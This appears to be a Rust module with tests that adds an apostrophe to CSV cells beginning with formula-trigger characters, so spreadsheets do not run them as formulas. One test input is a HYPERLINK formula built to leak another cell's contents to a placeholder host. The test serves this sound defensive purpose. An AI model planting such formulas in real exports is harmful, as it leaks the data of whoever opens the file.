//! The formula guard: free text written into a CSV cell must not run as a formula when the
//! file is opened in a spreadsheet.
//!
//! Pure: a cell in, a cell out; it knows nothing of columns (the catalogue marks which
//! columns are free text and the rows apply the guard from that mark alone). As OWASP's CSV
//! injection advice says, a value that begins with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a leading apostrophe, which spreadsheets read as "this is text" and hide. A
//! multi-valued cell joins its values with `;`, which is also the field separator
//! spreadsheets use in many locales, so the start of every value counts: a trigger right after
//! a `;` gets its apostrophe too. Ids, times, numbers and phone numbers never come here.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when they come first.
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// What neutralises a formula: the apostrophe spreadsheets take as a text prefix.
pub const PREFIX: u8 = b'\'';

/// Whether free-text cells are guarded (the default) or written as they are
/// (`--no-formula-guard`, for loaders that read the file as data).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Formulas {
    Guarded,
    Raw,
}

impl Formulas {
    /// A free-text cell as this setting writes it.
    pub fn apply(self, cell: String) -> String {
        match self {
            Formulas::Guarded => guard(&cell).into_owned(),
            Formulas::Raw => cell,
        }
    }

    /// Rewrites the free-text cell that ends `out` and begins at `start` as this setting
    /// writes it (for writers that render cells straight into a record); copies only when the
    /// cell changes.
    pub fn apply_from(self, out: &mut Vec<u8>, start: usize) {
        if self == Formulas::Raw || !out.get(start..).is_some_and(needs_guard) {
            return;
        }
        let cell = out.split_off(start);
        push_guarded(&cell, out);
    }
}

/// The cell with an apostrophe before every trigger that begins it or follows a `;`;
/// borrowed, unchanged, when there is none.
pub fn guard(cell: &str) -> Cow<'_, str> {
    if !needs_guard(cell.as_bytes()) {
        return Cow::Borrowed(cell);
    }
    let mut out = Vec::with_capacity(cell.len() + 2);
    push_guarded(cell.as_bytes(), &mut out);
    // Only ASCII apostrophes were added before ASCII bytes: still UTF-8, taken as it is.
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

/// Appends `cell` with an apostrophe before every trigger that begins a value. Every trigger
/// and `;` is ASCII, so a byte equal to one is that character, never part of another.
fn push_guarded(cell: &[u8], out: &mut Vec<u8>) {
    let mut value_start = true;
    for &b in cell {
        if value_start && is_trigger(b) {
            out.push(PREFIX);
        }
        out.push(b);
        value_start = b == b';';
    }
}

fn is_trigger(b: u8) -> bool {
    TRIGGERS.contains(&char::from(b))
}

/// Whether any value of the cell begins with a trigger: its first byte, or one after a `;`.
fn needs_guard(bytes: &[u8]) -> bool {
    bytes.first().is_some_and(|b| is_trigger(*b))
        || bytes
            .windows(2)
            .any(|pair| matches!(pair, [b';', next] if is_trigger(*next)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_that_begins_with_a_trigger_gets_an_apostrophe() {
        for (cell, want) in [
            (
                r#"=HYPERLINK("http://x/?leak="&A2,"x")"#,
                r#"'=HYPERLINK("http://x/?leak="&A2,"x")"#,
            ),
            ("+33 1 23", "'+33 1 23"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("Support;=1+1", "Support;'=1+1"),
            ("=a;;-b;c", "'=a;;'-b;c"),
            (";@x", ";'@x"),
        ] {
            assert_eq!(guard(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn other_cells_are_left_alone_and_borrowed() {
        for cell in [
            "",
            "Support, \"Tier 2\"",
            "a=b",
            "x-y;z+w",
            " =not first",
            "'=already",
            "Zoë;Groß",
            "Escalated; tier 2",
            "\n=after a newline",
        ] {
            assert!(
                matches!(guard(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn raw_writes_every_cell_as_it_is() {
        let cell = "=1+1;-2".to_string();
        assert_eq!(Formulas::Raw.apply(cell.clone()), cell);
        assert_eq!(Formulas::Guarded.apply(cell), "'=1+1;'-2");
        assert_eq!(Formulas::Guarded.apply("plain".into()), "plain");
        let mut record = b"a,@x".to_vec();
        Formulas::Raw.apply_from(&mut record, 2);
        assert_eq!(record, b"a,@x");
        Formulas::Guarded.apply_from(&mut record, 2);
        assert_eq!(record, b"a,'@x");
        Formulas::Guarded.apply_from(&mut record, 9);
        assert_eq!(record, b"a,'@x");
    }

    #[test]
    fn prop_a_guarded_cell_never_starts_a_value_with_a_trigger() {
        crate::prop::run(|rng| {
            let alphabet = ['=', '+', '-', '@', '\t', '\r', ';', 'a', ' ', '\'', 'é'];
            let cell: String = (0..rng.below(12))
                .map(|_| alphabet[rng.below(alphabet.len() as u64) as usize])
                .collect();
            // Read byte by byte, as a search of each `;`-separated value reads it.
            let by_values = cell
                .split(';')
                .any(|value| value.starts_with(|c| TRIGGERS.contains(&c)));
            assert_eq!(needs_guard(cell.as_bytes()), by_values, "{cell:?}");
            let guarded = guard(&cell);
            assert!(!needs_guard(guarded.as_bytes()), "{cell:?} -> {guarded:?}");
            // Guarded where it ends a record, the cell is the same.
            let mut record = b"x,".to_vec();
            record.extend_from_slice(cell.as_bytes());
            Formulas::Guarded.apply_from(&mut record, 2);
            assert_eq!(record, format!("x,{guarded}").as_bytes(), "{cell:?}");
            // Only apostrophes are added: removing those before triggers gives the cell back.
            let restored = guarded
                .replace("'=", "=")
                .replace("'+", "+")
                .replace("'-", "-");
            let restored = restored
                .replace("'@", "@")
                .replace("'\t", "\t")
                .replace("'\r", "\r");
            if !cell.contains('\'') {
                assert_eq!(restored, cell);
            }
        });
    }
}
